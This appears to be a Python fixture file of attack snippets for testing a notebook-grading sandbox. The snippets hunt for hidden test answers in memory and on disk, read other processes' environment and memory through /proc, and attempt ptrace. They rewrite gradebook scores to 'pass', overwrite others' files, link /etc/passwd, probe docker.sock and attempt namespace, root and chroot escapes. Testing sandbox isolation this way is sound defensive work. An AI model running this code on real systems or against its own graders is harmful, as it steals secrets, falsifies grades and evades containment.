"""Looking for the tests, and reaching for files, processes and networks."""

# ruff: noqa: E501  (attacks are written as attackers would)

from attacks.target import WRONG

REPORT = "print('leak:', 'FOUND' if any('secret-' + 'case' in text for text in seen) else 'nothing')\n"

ATTACKS = {
    "looks-for-tests": {
        "clean": """import gc, itertools, pathlib, sys
seen, frame = [], sys._getframe()
while frame:
    seen += [repr(v)[:5000] for v in {**frame.f_globals, **frame.f_locals}.values()]
    frame = frame.f_back
seen += [o for o in gc.get_objects() if isinstance(o, str)]
for root in ('{folder}', '{inbox}', '/work', '/home', '/root', '/tmp', '/proc/self', '/proc/1', '.', '..'):
    for path in itertools.islice(pathlib.Path(root).rglob('*'), 200):
        try:
            seen.append(path.open(errors='replace').read(100_000))
        except Exception:
            pass
""" + REPORT + """leak = 'FOUND' if any('secret-' + 'case' in text for text in seen) else 'nothing'
def clean(text):
    raise ValueError(leak)"""
    },
    "looks-during-a-call": {
        "clean": "seen = []",
        "double": """def double(n):
    import gc, sys
    frame = sys._getframe()
    while frame:
        seen.extend(repr(v)[:5000] for v in [*frame.f_globals.values(), *frame.f_locals.values()])
        frame = frame.f_back
    seen.extend(o for o in gc.get_objects() if isinstance(o, str) and 'assert' in o)
    return None""",
        "limit": "print('leak:', 'FOUND' if any('given' + ' = [word' in s or 'got ' + '== want' in s for s in seen) else 'nothing')",
    },
    "reads-memory": {
        "clean": """import os, re
seen = []
for who in ('self', str(os.getppid()), '1', '2', *os.listdir('/proc') if os.path.isdir('/proc') else ()):
    for part in ('environ', 'cmdline', 'maps', 'fd', 'cwd', 'root'):
        try:
            path = f'/proc/{who}/{part}'
            seen.append(open(path, errors='replace').read(10**6) if part in ('environ', 'cmdline', 'maps') else str(os.listdir(path)))
        except OSError:
            pass
    try:
        with open(f'/proc/{who}/mem', 'rb') as memory:
            for line in open(f'/proc/{who}/maps'):
                if 'rw' in line and who != 'self':
                    start, end = (int(x, 16) for x in line.split()[0].split('-'))
                    memory.seek(start)
                    seen.append(memory.read(min(end - start, 10**7)).decode('latin-1'))
    except (OSError, OverflowError, ValueError):
        pass
""" + REPORT + WRONG
    },
    "traces-the-parent": {
        "clean": """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print('traced' if libc.ptrace(16, os.getppid(), 0, 0) == 0 or libc.ptrace(16, 1, 0, 0) == 0 else 'refused')
buffer = ctypes.create_string_buffer(100)
""" + WRONG
    },
    "environment": {
        "clean": "import os, sys\nseen = [str(dict(os.environ)), str(sys.argv), str(sys.path), os.getcwd()]\n" + REPORT + WRONG
    },
    "writes-the-gradebook": {
        "clean": """import sqlite3, pathlib
for path in [pathlib.Path('{folder}/attacked/gradebook.db'), pathlib.Path('{folder}/attacked/attempts.db'), *pathlib.Path('/').glob('*/*/gradebook.db')]:
    for order in ('update grade set manual_score = 77', "update verdict set points = 77, outcome = 'pass'"):
        try:
            with sqlite3.connect(path) as book:
                book.execute(order)
            print('WROTE', path)
        except Exception as error:
            print('refused', error)
""" + WRONG
    },
    "writes-beside-others": {
        "clean": """import os
for place in ('{inbox}', '{folder}', '{folder}/attacked', '{folder}/attacked/submitted', '{folder}/attacked/feedback', '{folder}/exercises/words'):
    for name in ('honest.ipynb', 'feedback.html', 'words.ipynb', 'evil.ipynb'):
        try:
            open(os.path.join(place, name), 'w').write('{}')
            print('WROTE', place)
        except OSError:
            pass
    try:
        os.rename(place, place + '-gone'); print('WROTE')
    except OSError:
        pass
    try:
        os.chmod(place, 0o777); print('WROTE mode')
    except OSError:
        pass
""" + WRONG
    },
    "links-out": {
        "clean": """import os
for place in ('.', '/tmp', '/dev/shm'):
    for target in ('{folder}/attacked/gradebook.db', '/etc/passwd', '/proc/1/mem'):
        try:
            os.symlink(target, f'{place}/link{len(target)}')
            os.link(target, f'{place}/hard{len(target)}')
            open(f'{place}/hard{len(target)}', 'a').write('x')
            print('WROTE')
        except OSError:
            pass
""" + WRONG
    },
    "network": {
        "clean": """import socket
for family, place in ((socket.AF_INET, ('127.0.0.1', 22)), (socket.AF_INET, ('127.0.0.1', 8888)), (socket.AF_INET, ('8.8.8.8', 53)),
                      (socket.AF_INET6, ('::1', 631)), (socket.AF_UNIX, '/run/docker.sock'), (socket.AF_UNIX, '\\0/tmp/.X11-unix/X0')):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as way:
                way.settimeout(0.05)
                way.connect(place)
                way.send(b'x')
                print('CONNECTED', place)
        except OSError:
            pass
""" + WRONG
    },
    "new-namespaces": {
        "clean": """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x10000000 | 0x00020000 | 0x40000000):
    if libc.unshare(flag) == 0 and os.getuid() == 0:
        print('ESCAPED', flag)
print('ESCAPED mount' if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 else 'refused')
try:
    os.setuid(0); print('ESCAPED root')
except OSError:
    pass
try:
    os.chroot('.'); print('ESCAPED chroot')
except OSError:
    pass
""" + WRONG
    },
    "leaves-something-for-others": {
        "clean": """import os, sys
for place in ('.', '/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', os.path.expanduser('~')):
    try:
        open(f'{place}/note-{os.getpid()}', 'w').write('hello, next one')
    except OSError:
        pass
"""
        + WRONG
    },
    "meets-what-others-left": {
        "clean": """import os, sys
for place in ('.', '/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', os.path.expanduser('~')):
    for path, _, names in os.walk(place):
        ours = path.startswith((sys.prefix, sys.base_prefix))  # Python itself may lie at home
        if not ours and any(name.startswith(('note-', 'hog', 'daemon', 'link')) for name in names):
            print('MET another')
""" + WRONG
    },
}  # fmt: skip
